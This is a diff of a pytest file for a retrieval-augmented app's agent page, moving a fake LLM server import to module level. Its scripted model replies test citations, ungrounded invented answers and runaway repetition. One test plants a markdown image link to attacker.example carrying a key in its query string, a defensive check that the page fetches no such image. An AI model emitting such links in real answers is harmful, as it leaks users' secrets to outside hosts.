@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import re
 import socket
-import sys
 from pathlib import Path
 
 import pytest
@@ -14,6 +13,7 @@ from rag_core.config import EmbeddingConfig, RAGConfig
 from rag_core.loaders import load_bytes
 from rag_core.services import open_index
 from tests.app.apptest_helpers import page_app, studio_app, visit_another_page
+from tests.fakes import openai_server as fake
 
 PAGE = str(Path(__file__).resolve().parents[2] / "pages" / "agent_playground.py")
 # auto: the page tests also drive the LLM router through it
@@ -115,9 +115,6 @@ def test_prefill_question_and_compare(indexed):
 
 
 def test_llm_policy_through_a_scripted_endpoint(indexed, monkeypatch):
-    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fakes"))
-    import openai_server as fake
-
     script = [fake.tool_call("search", {"query": "rotate API key", "granularity": "paragraph"}, content="Searching."),
               fake.answer("keyword"),  # the retrieval LLM router picks the strategy of that search
               fake.tool_call("done", {"answer": "Open Settings › Keys and press **Rotate**.", "citations": []},
@@ -144,9 +141,6 @@ def test_llm_policy_through_a_scripted_endpoint(indexed, monkeypatch):
 
 
 def test_llm_answer_policy_cites_its_chunks(indexed, monkeypatch):
-    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fakes"))
-    import openai_server as fake
-
     script = [fake.answer("Open Settings, choose Keys and press Rotate [1].")]
     with fake.LlamaCppServer(script, route="keyword") as server:
         monkeypatch.setenv("RAG_LLM_BASE_URL", server.base_url)
@@ -165,9 +159,6 @@ def test_llm_answer_policy_cites_its_chunks(indexed, monkeypatch):
 
 
 def test_invented_answer_is_marked_not_grounded_with_its_sentences(indexed, monkeypatch):
-    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fakes"))
-    import openai_server as fake
-
     invented = ("Open Settings, choose Keys and press Rotate [1]. Then call `keys.remove_attributes()` to drop the "
                 "old key after 429 seconds [1].")
     with fake.LlamaCppServer([fake.answer(invented)], route="keyword") as server:
@@ -185,9 +176,6 @@ def test_invented_answer_is_marked_not_grounded_with_its_sentences(indexed, monk
 
 
 def test_repetition_stop_names_its_cause_not_the_endpoint(indexed, monkeypatch):
-    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fakes"))
-    import openai_server as fake
-
     with fake.LlamaCppServer([fake.runaway("api_key_valid_key_value_key_value")], route="keyword") as server:
         monkeypatch.setenv("RAG_LLM_BASE_URL", server.base_url)
         monkeypatch.setenv("RAG_LLM_MODEL", "smollm2")
@@ -385,9 +373,6 @@ def test_not_found_is_not_flagged_as_ungrounded(indexed):
 
 
 def test_model_answer_fetches_no_image(indexed, monkeypatch):
-    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "fakes"))
-    import openai_server as fake
-
     planted = "Press Rotate [1]. ![x](https://attacker.example/leak?q=key)"
     with fake.LlamaCppServer([fake.answer(planted)], route="keyword") as server:
         monkeypatch.setenv("RAG_LLM_BASE_URL", server.base_url)
